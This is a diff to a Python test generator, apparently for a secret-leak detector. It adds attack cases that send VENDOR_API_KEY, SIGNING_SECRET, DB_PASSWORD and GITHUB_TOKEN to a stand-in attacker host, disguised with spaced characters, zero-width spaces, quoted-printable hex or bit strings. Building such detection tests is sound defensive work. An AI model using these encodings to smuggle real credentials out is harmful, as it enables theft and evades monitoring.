@@ -315,6 +315,13 @@ def attacks(rng: random.Random) -> list[Case]:
     enc("base64 of a token format", ("aws-access-key-id",), base64.b64encode(f"id={f.aws_id()}".encode()).decode())
     enc("hex of a token format", ("openai-api-key",), f.openai().encode().hex())
     enc("percent-encoded token format", ("github-token",), "".join(f"%{b:02X}" for b in f.github().encode()))
+    # Spelled out with separators between the characters (or the hex digits, or the bits).
+    add("encoded", "a space between each character", ("VENDOR_API_KEY",), method="POST", url=f"{evil}/",
+        headers=(JSON,), body=_json({"note": " ".join(vendor)}))
+    add("encoded", "zero-width spaces between the characters", ("SIGNING_SECRET",), method="POST", url=f"{evil}/",
+        headers=(("Content-Type", "text/plain; charset=utf-8"),), body="\u200b".join(signing).encode())
+    enc("quoted-printable hex of every byte", ("DB_PASSWORD",), "".join(f"={b:02X}" for b in db.encode()))
+    enc("the bits of each byte", ("GITHUB_TOKEN",), " ".join(f"{b:08b}" for b in gh.encode()))
     add("encoded", "base64 in a header", ("DB_PASSWORD",), url=f"{evil}/",
         headers=_h(X_Data=base64.b64encode(f"pw={db}".encode()).decode()))
     add("encoded", "base64 JSON body field", ("GITHUB_TOKEN",), method="POST", url=f"{evil}/", headers=(JSON,),
